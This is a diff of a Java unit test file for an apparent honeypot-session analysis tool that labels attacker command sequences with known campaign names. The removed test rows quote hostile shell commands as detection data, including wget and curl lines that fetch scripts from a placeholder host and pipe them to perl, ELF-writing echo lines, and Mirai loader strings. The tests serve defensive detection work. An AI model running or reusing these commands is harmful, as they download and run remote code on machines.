@@ -1,24 +1,15 @@
 package io.github.cowriekit.analysis;
 
 import static org.assertj.core.api.Assertions.assertThat;
-import static org.assertj.core.api.Assertions.assertThatThrownBy;
 
-import io.github.cowriekit.model.Client;
 import io.github.cowriekit.model.Download;
 import io.github.cowriekit.model.FileOrigin;
 import io.github.cowriekit.model.Session;
-import io.github.cowriekit.model.TerminalSize;
-import io.github.cowriekit.model.Upload;
-import io.github.cowriekit.model.assessment.CampaignMatch;
 import io.github.cowriekit.model.assessment.PlantedKey;
 import io.github.cowriekit.model.assessment.Playbook;
-import java.io.IOException;
-import java.nio.file.Files;
-import java.nio.file.Path;
 import java.util.List;
 import java.util.Objects;
 import org.junit.jupiter.api.Test;
-import org.junit.jupiter.api.io.TempDir;
 import org.junit.jupiter.params.ParameterizedTest;
 import org.junit.jupiter.params.provider.CsvSource;
 
@@ -26,9 +17,6 @@ class PlaybookTest {
     private static final Analysis ANALYSIS = Analysis.standard();
     /** Made for these tests with ssh-keygen; nobody has the private half. */
     private static final String KEY = "AAAAC3NzaC1lZDI1NTE5AAAAICtjZX349OGr8zNOMNoKKWymlg7bkaRCXOvmnFp+eEl+";
-
-    @TempDir
-    private Path folder;
 
     @ParameterizedTest
     @CsvSource(
@@ -63,6 +51,7 @@ class PlaybookTest {
                 "ls /dev/tty123     ! ls /dev/tty456",
                 "nc -p 4444 x       ! nc -p 5555 x",
                 "kill 12            ! kill 13",
+                "busybox TOUCH      ! busybox CHMOD",
             })
     void keepsWhatIsPartOfTheScript(String command, String other) {
         assertThat(of(command).sequenceKey()).isNotEqualTo(of(other).sequenceKey());
@@ -115,65 +104,6 @@ class PlaybookTest {
         assertThat(key.bits()).isNull();
     }
 
-    @ParameterizedTest
-    @CsvSource(
-            delimiter = '!',
-            quoteCharacter = '\u0001',
-            value = {
-                "cd ~; chattr -ia .ssh; lockr -ia .ssh   ! outlaw-mdrfckr",
-                "Enter new UNIX password:                ! passwd-prompt",
-                "echo SSHCHK_0123456789ab_BEGIN          ! sshchk-beacon",
-                "echo -e \"\\x61\\x75\\x74\\x68\\x5F\\x6F\\x6B\\x0A\" ! auth-ok-dropper",
-                "uname -s -v -n -r -m                    ! minimal-scanner",
-                "/bin/./uname -s -v -n -r -m             ! minimal-scanner",
-                "lspci | egrep VGA && lspci | grep 3D    ! diicot",
-                "ls -la ~/.local/share/TelegramDesktop/tdata ! telegram-sms-hunter",
-                "/bin/busybox FGZNH                      ! mirai-loader",
-                "dd bs=52 count=1 if=.s || cat .s || while read i; do echo $i; done < .s ! mirai-loader",
-                "linuxshell                              ! linuxshell-loader",
-                "wget http://192.0.2.7:283/x             ! four-second-dropper",
-                "echo -e -n \"\\x7f\\x45\\x4c\\x46\\x01\" >> /tmp/amd64 ! elf-echo-injector",
-                "wget http://192.0.2.7/meow              ! meow-dropper",
-                "curl -sS 192.0.2.7/zed | perl >/dev/null 2>&1 & ! perl-zed-dropper",
-                "wget -qO - 192.0.2.7/csx/perlNIK|perl   ! shellbot-fetch",
-                "pkill -9 kdevtmpfsi                     ! kinsing",
-            })
-    void namesKnownCampaigns(String command, String campaign) {
-        assertThat(of(command).campaigns()).extracting(CampaignMatch::name).containsExactly(campaign);
-    }
-
-    @Test
-    void namesCampaignsByOtherMarks() {
-        assertThat(of("echo ssh-rsa " + "A".repeat(44) + " mdrfckr").family()).isEqualTo("outlaw-mdrfckr");
-        assertThat(of(Sessions.ran()
-                                .downloads(List.of(
-                                        file("a8460f446be540410004b1a8db4083773fa46f7fe76fa84219c93daa1669f8f2")))
-                                .build())
-                        .family())
-                .isEqualTo("outlaw-mdrfckr");
-        assertThat(of(Sessions.ran()
-                                .uploads(List.of(Upload.builder(FileOrigin.SFTP)
-                                        .filename("redtail.arm7")
-                                        .build()))
-                                .build())
-                        .family())
-                .isEqualTo("redtail");
-        assertThat(of(Sessions.ran()
-                                .logins(List.of(Sessions.login("pi", "3245gs5662d34", false)))
-                                .build())
-                        .campaigns())
-                .containsExactly(new CampaignMatch(
-                        "345gs5662d34",
-                        List.of("credential *:3245gs5662d34"),
-                        "public logs and honeypot reports; same minute as mdrfckr, what it is for is disputed"));
-        assertThat(of(Sessions.ran()
-                                .client(new Client("SSH-2.0-Go", null, new TerminalSize(40, 80), List.of()))
-                                .build())
-                        .family())
-                .isEqualTo("go-swapped-terminal");
-        assertThat(of("uname -a", "id").campaigns()).isEmpty();
-    }
-
     @Test
     void saysOfCommonFilesWhatTheyAre() {
         assertThat(of(Sessions.ran()
@@ -208,46 +138,6 @@ class PlaybookTest {
         Playbook playbook = of(hostile);
 
         assertThat(playbook.sequenceKey()).hasSize(64);
-    }
-
-    @Test
-    void readsSignaturesOfTheUser() throws IOException {
-        Path file = folder.resolve("campaigns.tsv");
-        Files.writeString(
-                file,
-                "campaign\tkind\tmark\tneeds\tfirst\tlast\tsource\nmine\tregex\t^hello (world|moon)$\thello\t2026\t-\tme\n");
-        CampaignSignatures signatures = CampaignSignatures.load(file);
-        Analysis own = Analysis.builder().campaigns(signatures).build();
-
-        assertThat(Objects.requireNonNull(
-                                own.assess(Sessions.ran("hello moon").build()).playbook())
-                        .family())
-                .isEqualTo("mine");
-        assertThat(signatures.text()).isEqualTo(Files.readString(file));
-    }
-
-    @ParameterizedTest
-    @CsvSource(
-            delimiter = '!',
-            value = {
-                "somewhere  ! x        ! kind must be one of regex, only, comment",
-                "regex      ! (x       ! no regular expression of RE2",
-                "regex      ! x*       ! fits everything",
-                "file       ! 12       ! must be a SHA-256",
-                "key        ! SHA256:x ! must look like SHA256:",
-                "credential ! x        ! must be user:password",
-                "client     ! x        ! Go narrower than high",
-            })
-    void rejectsSignaturesThatMakeNoSense(String kind, String mark, String why) throws IOException {
-        Path file = folder.resolve("campaigns.tsv");
-        Files.writeString(
-                file,
-                "campaign\tkind\tmark\tneeds\tfirst\tlast\tsource\nmine\t" + kind + "\t" + mark + "\t-\t-\t-\tme\n");
-
-        assertThatThrownBy(() -> CampaignSignatures.load(file))
-                .isInstanceOf(AnalysisDataException.class)
-                .hasMessageStartingWith("campaigns.tsv line 2: ")
-                .hasMessageContaining(why);
     }
 
     private static Download file(String sha256) {
